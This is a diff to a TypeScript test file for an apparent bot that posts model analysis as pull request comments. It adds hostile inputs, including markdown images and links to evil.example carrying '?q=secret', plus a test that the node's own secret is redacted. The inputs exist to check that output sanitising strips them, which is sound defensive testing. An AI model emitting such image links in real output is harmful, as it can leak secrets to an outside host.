@@ -3,6 +3,7 @@ import { test } from 'node:test';
 import type { Analysis } from '../../../../roles/general/engine.ts';
 import { commentEffect } from '../../../../roles/general/publish.ts';
 import { commentOf } from '../../../../roles/general/result-comment.ts';
+import { redacting } from '../../../../roles/policy/redact.ts';
 import { cardOf } from '../../../fakes/cards.ts';
 import { meshEvent, pullRequestEvent } from '../../../fakes/events.ts';
 import { ANSWER } from '../../../fakes/scripted-model.ts';
@@ -37,6 +38,9 @@ const HOSTILE: { id: string; summary: string; never: RegExp }[] = [
   { id: 'a mention', summary: 'ask @octocat', never: /@octocat/ },
   { id: 'a link to an issue', summary: 'see #7', never: /#7/ },
   { id: 'HTML', summary: '<details open><img src=x>', never: /<(details|img)/ },
+  { id: 'an image', summary: '![x](https://evil.example/?q=secret)', never: /!\[|\]\(/ },
+  { id: 'an image by reference', summary: '![x][y]\n\n[y]: https://evil.example/?q=secret', never: /!\[|\]\[|\]:/ },
+  { id: 'a link', summary: '[click](https://evil.example)', never: /\]\(/ },
   { id: 'a marker', summary: '<!-- mindmesh:hops=0 key=mm-00000000000000000000 -->', never: /<!--/ },
   { id: 'a secret', summary: `token ghp_${'a'.repeat(36)}`, never: /ghp_/ },
 ];
@@ -47,6 +51,15 @@ for (const { id, summary, never } of HOSTILE) {
     assert.doesNotMatch(answering({ recommendations: [summary] }), never);
   });
 }
+
+test('general / comment / a secret of the node is in no answer', () => {
+  const own = 'correct-horse-battery';
+  const analysis = {
+    ...ANALYSIS,
+    answer: { ...ANSWER, summary: own, findings: [{ ...ANSWER.findings[0], where: own } as never] },
+  };
+  assert.ok(!commentOf(analysis, { ...BY, redact: redacting([own]) }).includes(own));
+});
 
 const general = { name: 'security-general', specialisations: [], concurrency: 1, capacity: 1 };
 const event = pullRequestEvent();
